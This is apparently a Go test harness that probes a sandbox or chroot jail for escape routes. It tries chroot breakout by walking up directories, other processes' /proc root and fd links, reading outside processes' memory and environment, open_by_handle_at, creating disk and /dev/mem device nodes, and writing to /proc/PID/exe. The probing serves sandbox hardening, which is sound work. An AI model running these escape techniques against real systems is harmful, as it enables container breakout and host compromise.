// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func walkUp() error {
	for range 200 {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	if out("") {
		return nil
	}
	return errFailed
}

func chrootWalk() error {
	dir, err := os.MkdirTemp("/tmp", "x")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	return walkUp()
}

func chrootHeld() error {
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("/tmp", "x")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	return walkUp()
}

func procLinks() error {
	for _, pid := range append(pids(), 1, gateway, os.Getppid(), os.Getpid()) {
		for _, l := range []string{"root", "cwd", "root/..", "cwd/../../../../.."} {
			if out(fmt.Sprintf("/proc/%d/%s", pid, l)) {
				return nil
			}
		}
		fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
		for _, fd := range fds {
			if out(fd) || out(fd+"/../../../../../..") {
				return nil
			}
		}
		tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/root", pid))
		for _, t := range tasks {
			if out(t) {
				return nil
			}
		}
	}
	return errFailed
}

func procFiles() error {
	for _, pid := range outsiders() {
		for _, name := range []string{"environ", "mem", "maps", "auxv", "syscall", "stack", "fd/0", "fd/3", "exe", "map_files"} {
			path := fmt.Sprintf("/proc/%d/%s", pid, name)
			if f, err := os.Open(path); err == nil {
				_, err := f.Read(make([]byte, 1))
				if name == "map_files" {
					_, err = f.Readdirnames(1)
				}
				f.Close()
				if err == nil {
					fmt.Println("read", path)
					return nil
				}
			}
		}
	}
	return errFailed
}

func handle() error {
	dir, err := unix.Open("/", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	for _, ino := range []uint64{2, 128, 256, 1} {
		b := make([]byte, 8)
		*(*uint64)(unsafe.Pointer(&b[0])) = ino
		for _, typ := range []int32{1, 0x81, 2} {
			fd, err := unix.OpenByHandleAt(dir, unix.NewFileHandle(typ, b), unix.O_RDONLY)
			if err == nil || !errors.Is(err, unix.EPERM) && !errors.Is(err, unix.ENOSYS) {
				fmt.Println("open_by_handle_at is permitted", fd, err)
				return nil
			}
		}
	}
	return errFailed
}

func descriptors() error {
	for fd := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		switch kind := st.Mode & unix.S_IFMT; {
		case fd > 2 && kind != 0, kind == unix.S_IFDIR:
			fmt.Printf("descriptor %d, mode %o\n", fd, st.Mode)
			return nil
		}
	}
	return errFailed
}

func devices() []uint64 {
	devs := []uint64{unix.Mkdev(8, 0), unix.Mkdev(253, 0), unix.Mkdev(254, 0), unix.Mkdev(259, 0), unix.Mkdev(7, 0)}
	b, _ := os.ReadFile("/proc/partitions")
	for line := range strings.Lines(string(b)) {
		var major, minor uint32
		if n, _ := fmt.Sscan(line, &major, &minor); n == 2 {
			devs = append(devs, unix.Mkdev(major, minor))
		}
	}
	return devs
}

func mknod() error {
	for _, dir := range []string{"/", "/tmp", "/dev", "/dev/shm", "/dev/mqueue", "/dev/pts", "/proc", "/root"} {
		for _, dev := range devices() {
			name := dir + "/.attack"
			if unix.Mknod(name, unix.S_IFBLK|0o666, int(dev)) != nil {
				continue
			}
			fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
			unix.Unlink(name)
			if err == nil {
				unix.Close(fd)
				fmt.Println("opened", unix.Major(dev), unix.Minor(dev), "in", dir)
				return nil
			}
			if !errors.Is(err, unix.EACCES) && !errors.Is(err, unix.EPERM) {
				fmt.Println("may open", unix.Major(dev), unix.Minor(dev), "in", dir, err)
				return nil
			}
		}
		for _, minor := range []uint32{1, 2, 4} { // mem, kmem, port
			name := dir + "/.attack"
			if unix.Mknod(name, unix.S_IFCHR|0o666, int(unix.Mkdev(1, minor))) != nil {
				continue
			}
			fd, err := unix.Open(name, unix.O_RDWR, 0)
			unix.Unlink(name)
			if err == nil {
				unix.Close(fd)
				fmt.Println("opened memory device", minor)
				return nil
			}
		}
	}
	return errFailed
}

// deviceNodes opens block devices that are in the jail already.
func deviceNodes() error {
	found := errFailed
	filepath.WalkDir("/", func(path string, d os.DirEntry, err error) error {
		if err != nil || d.Type()&os.ModeDevice == 0 || d.Type()&os.ModeCharDevice != 0 {
			return nil
		}
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			unix.Close(fd)
			fmt.Println("opened", path)
			found = nil
		}
		return nil
	})
	return found
}

// overwriteExe looks for programs from outside that run inside, and opens them for writing.
func overwriteExe() error {
	for _, pid := range pids() {
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		name, err := os.Readlink(exe)
		if err != nil || !sameRoot(pid) {
			continue
		}
		outside, err := os.Stat(exe)
		inside, errInside := os.Stat(name)
		if err != nil || errInside == nil && os.SameFile(outside, inside) {
			continue
		}
		fd, err := unix.Open(exe, unix.O_WRONLY, 0)
		if err == nil || errors.Is(err, unix.ETXTBSY) { // busy now, writable later
			unix.Close(fd)
			fmt.Println("may write", name, err)
			return nil
		}
	}
	return errFailed
}
